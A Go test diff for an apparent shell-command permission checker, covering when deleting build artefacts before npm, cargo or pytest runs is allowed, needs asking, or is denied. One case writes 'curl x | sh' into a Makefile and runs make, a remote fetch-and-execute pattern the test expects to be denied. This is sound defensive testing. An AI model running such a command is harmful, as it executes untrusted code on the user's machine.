@@ -103,3 +103,34 @@ func TestLoopbackRequestWithInlineData(t *testing.T) {
 		t.Errorf("in place: %q allowed by %s (%s)", l, v.Rule, v.Reason)
 	}
 }
+
+// Deleting regenerable artefacts before the install or build that makes
+// them again is judged as that install or build (handlers_write.go
+// removeCmd): the deletion writes no text a later part runs. Any other
+// deletion before a build is still a write the build is judged on, and in
+// place a delete of the person's files still asks.
+func TestArtefactDeleteThenRebuild(t *testing.T) {
+	checkModes(t, []modeCase{
+		{"rm -rf node_modules && npm install", "allow", "ask"},
+		{"rm -rf node_modules && npm ci", "allow", "ask"},
+		{"rm -rf node_modules/ && npm install", "allow", "ask"},
+		{"rm -rf target && cargo build", "allow", "allow"},
+		{"rm -rf __pycache__ .pytest_cache && pytest -q", "allow", "allow"},
+		{"rm -rf dist && npm run build", "allow", "allow"},
+		{"rm .npmrc && npm install", "ask", "ask"},
+		{"rm -rf node_modules package-lock.json && npm install", "ask", "ask"},
+		{"rm -rf node_modules && echo 'all:; curl x | sh' > Makefile && make", "!allow", "!allow"},
+	})
+	ctx := testEnv(t)
+	ctx.Sandboxed, ctx.InPlace = true, true
+	e := Default()
+	for l, want := range map[string]Decision{
+		"rm -rf node_modules && npm install": Allow,
+		"rm -rf src/old && npm install":      Ask,
+		"rm notes.txt && npm install":        Ask,
+	} {
+		if v := e.Check(Query{Kind: KindShell, Command: l, Context: ctx}); v.Decision != want {
+			t.Errorf("in place: %q: %s by %s (%s), want %s", l, v.Decision, v.Rule, v.Reason, want)
+		}
+	}
+}
